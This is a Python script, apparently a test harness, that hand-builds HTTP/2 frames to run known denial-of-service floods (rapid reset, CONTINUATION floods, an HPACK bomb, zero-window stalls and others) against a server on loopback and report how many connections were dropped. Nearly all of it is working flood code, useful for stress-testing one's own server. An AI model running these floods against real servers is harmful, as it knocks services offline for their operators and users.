#!/usr/bin/env python3
"""The known floods of HTTP/2, frame by frame.

    python3 http2_floods.py PORT NAME SECONDS    sends one at a gate on loopback, and prints what came of it
"""

import json
import socket
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def integer(first, bits, value):
    most = (1 << bits) - 1
    if value < most:
        return bytes([first | value])
    out, value = bytes([first | most]), value - most
    while value >= 128:
        out, value = out + bytes([value % 128 | 128]), value // 128
    return out + bytes([value])


def literal(name, value, first=0):
    return bytes([first]) + integer(0, 7, len(name)) + name + integer(0, 7, len(value)) + value


def head(path, method=b"GET", more=b""):
    fields = [(b":method", method), (b":scheme", b"https"), (b":authority", b"gate.test"), (b":path", path)]
    return b"".join(literal(*field) for field in fields) + more


def get(stream, path=b"/held", more=b""):
    return frame(HEADERS, 5, stream, head(path, more=more))


def blocks(stream, block):
    pieces = [block[at : at + 16384] for at in range(0, len(block), 16384)]
    out = b""
    for at, piece in enumerate(pieces):
        kind = HEADERS if at == 0 else CONTINUATION
        flags = (1 if at == 0 else 0) | (4 if at + 1 == len(pieces) else 0)
        out += frame(kind, flags, stream, piece)
    return out


OPEN = frame(HEADERS, 4, 1, head(b"/held", b"POST"))
BOMB = blocks(1, head(b"/bomb", more=literal(b"x-bomb", b"b" * 3900, 0x40) + integer(0x80, 7, 62) * 10000))
CRUMBS = blocks(1, head(b"/crumbs", more=literal(b"cookie", b"a=b") * 10000))

# name, what comes first, what is repeated
FLOODS = [
    ("rapid reset", b"", lambda at: get(at * 2 + 1) + frame(RST, 0, at * 2 + 1, b"\0\0\0\x08")),
    ("provoked reset", b"", lambda at: get(at * 2 + 1) + frame(UPDATE, 0, at * 2 + 1, b"\0\0\0\0")),
    ("streams too many", b"", lambda at: get(at * 2 + 1)),
    ("CONTINUATION", frame(HEADERS, 1, 1), lambda at: frame(CONTINUATION, 0, 1)),
    ("CONTINUATION, full", frame(HEADERS, 1, 1), lambda at: frame(CONTINUATION, 0, 1, literal(b"a", b"b" * 100) * 10)),
    ("SETTINGS", b"", lambda at: frame(SETTINGS, 0, 0)),
    ("PING", b"", lambda at: frame(PING, 0, 0, b"12345678")),
    ("PRIORITY", b"", lambda at: frame(PRIORITY, 0, at % 1000 * 2 + 1, b"\0\0\0\0\x01")),
    ("empty DATA", OPEN, lambda at: frame(DATA, 0, 1)),
    ("DATA of one byte", OPEN, lambda at: frame(DATA, 0, 1, b"x")),
    ("WINDOW_UPDATE", b"", lambda at: frame(UPDATE, 0, 0, b"\0\0\0\x01")),
    ("HPACK bomb", b"", None),
    ("crumbs", b"", None),
    ("large answers, no window", b"", None),
]


def connect(port):
    sock = socket.create_connection(("127.0.0.1", port))
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return sock


def read_all(sock):
    try:
        while sock.recv(1 << 20):
            pass
    except OSError:
        pass


def flood(connect, name, begin, each, seconds):
    """One connection after another for so long; says how many ended, and how many frames went."""
    end, ended, count, sent = time.monotonic() + seconds, 0, 0, 0
    kept = []
    while time.monotonic() < end:
        sock = connect()
        sock.settimeout(seconds)
        count += 1
        if name == "large answers, no window":
            sock.sendall(PREFACE + frame(SETTINGS, 0, 0, b"\0\x04\0\0\0\0"))
            sock.sendall(b"".join(get(at * 2 + 1, b"/large") for at in range(200)))
            while time.monotonic() < end:
                sock.sendall(frame(UPDATE, 0, 0, b"\0\0\0\x01") + frame(UPDATE, 0, 1, b"\0\0\0\x01"))
                time.sleep(0.01)
            kept.append(sock)
            continue
        threading.Thread(target=read_all, args=(sock,), daemon=True).start()
        try:
            sock.sendall(PREFACE + frame(SETTINGS, 0, 0) + begin)
            if each is None:
                sock.sendall(BOMB if name == "HPACK bomb" else CRUMBS)
                time.sleep(0.02)
                sent += 1
                kept.append(sock)
                if len(kept) > 50:
                    kept.pop(0).close()
                continue
            at = 0
            while time.monotonic() < end and at < 1_000_000:
                sock.sendall(b"".join(each(at + more) for more in range(200)))
                at, sent = at + 200, sent + 200
        except OSError:
            ended += 1
        finally:
            if each is not None:
                sock.close()
    return ended, count, sent, kept


def main(port, wanted, seconds):
    for name, begin, each in FLOODS:
        if name == wanted:
            ended, count, sent, _ = flood(lambda: connect(port), name, begin, each, seconds)
            print(json.dumps({"ended": ended, "connections": count, "frames": sent}))
            return
    sys.exit(f"no flood is called {wanted!r}")


if __name__ == "__main__":
    main(int(sys.argv[1]), sys.argv[2], float(sys.argv[3]))
